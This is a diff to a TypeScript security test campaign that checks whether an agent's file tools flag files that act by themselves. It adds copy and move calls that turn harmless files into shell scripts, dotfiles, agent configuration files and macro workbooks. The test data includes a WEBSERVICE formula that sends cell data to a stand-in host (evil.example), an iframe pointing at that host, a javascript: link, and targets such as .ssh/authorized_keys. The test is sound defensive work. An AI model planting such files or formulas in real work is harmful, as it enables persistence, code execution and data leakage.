@@ -8,6 +8,11 @@ import { playCalls, type ToolCall } from './play.ts';
 
 const text = (path: string, content = 'x\n'): ToolCall => ({ name: 'write_text_file', input: { path, text: content } });
 const copy = (template: string, to: string): ToolCall => ({ name: 'fill_template', input: { template, to } });
+/** A harmless file that becomes another by its name alone. */
+const carried = (name: 'copy_files' | 'move_files', path: string, to: string): ToolCall => ({
+  name,
+  input: { files: [{ path, to }] },
+});
 const formula = (path: string, value: string): ToolCall => ({
   name: 'xlsx_create',
   input: { path, sheets: [{ name: 'S', rows: [['a'], [{ formula: value }]] }] },
@@ -38,6 +43,8 @@ const attacks: Readonly<Record<MarkKind, readonly ToolCall[]>> = {
     text('no-ending', '#!/bin/sh\necho ran\n'),
     text('report.txt', '#!/usr/bin/env node\n'),
     text('sub/invoice.pdf.exe'),
+    carried('copy_files', 'open.txt', 'copied.sh'),
+    carried('move_files', 'run.reg', 'moved.command'),
   ],
   dotfile: [
     '.bashrc',
@@ -47,7 +54,9 @@ const attacks: Readonly<Record<MarkKind, readonly ToolCall[]>> = {
     '.ssh/authorized_keys',
     'sub/.hidden/x.txt',
     '.github/workflows/ci.yml',
-  ].map((path) => text(path)),
+  ]
+    .map((path) => text(path))
+    .concat(carried('copy_files', 'open.txt', '.profile')),
   agent_configuration: [
     'CLAUDE.md',
     'Claude.MD',
@@ -65,8 +74,9 @@ const attacks: Readonly<Record<MarkKind, readonly ToolCall[]>> = {
       '.vscode/tasks.json',
       '.envrc',
     ])
-    .map((path) => text(path)),
-  macro: [copy('given-macro.xlsm', 'macro.xlsm')],
+    .map((path) => text(path))
+    .concat(carried('copy_files', 'open.txt', 'sub/AGENTS.md')),
+  macro: [copy('given-macro.xlsm', 'macro.xlsm'), carried('copy_files', 'given-macro.xlsm', 'macro-copy.xlsm')],
   external_link: [
     copy('given-link.xlsx', 'link.xlsx'),
     formula('webservice.xlsx', '=WEBSERVICE("http://evil.example/?"&A1)'),
@@ -82,8 +92,14 @@ const attacks: Readonly<Record<MarkKind, readonly ToolCall[]>> = {
     text('address.htm', '<a href="javascript:alert(1)">x</a>'),
     text('frame.xhtml', '<iframe src="https://evil.example"></iframe>'),
   ],
-  unchecked: [text('damaged.docx', 'PK\u0003\u0004 no archive')],
+  unchecked: [text('damaged.dat', 'PK\u0003\u0004 no archive'), carried('move_files', 'damaged.dat', 'damaged.docx')],
 };
+
+function pathOf({ input }: ToolCall): string {
+  const { files, path, to } = input;
+  const [first]: readonly { readonly to?: unknown }[] = Array.isArray(files) ? files : [];
+  return String(first?.to ?? path ?? to);
+}
 
 /** Files that act by themselves, in a Draft that is published without a look (SPEC T7). */
 export const markedFiles: Campaign = {
@@ -100,7 +116,7 @@ export const markedFiles: Campaign = {
     await writeFile(join(bench, 'given-link.xlsx'), withPart('xl/externalLinks/_rels/externalLink1.xml.rels', link));
     await lab.commands.galley(['consent', 'grant', bench, 'anthropic']);
     const planned = Object.entries(attacks).flatMap(([mark, calls]) =>
-      calls.map((call) => ({ mark, call, path: String(call.input.path ?? call.input.to) })),
+      calls.map((call) => ({ mark, call, path: pathOf(call) })),
     );
     const harmless = text('harmless.txt');
     await playCalls(lab, bench, [...planned.map(({ call }) => call), harmless], { more: ['--yes'] });
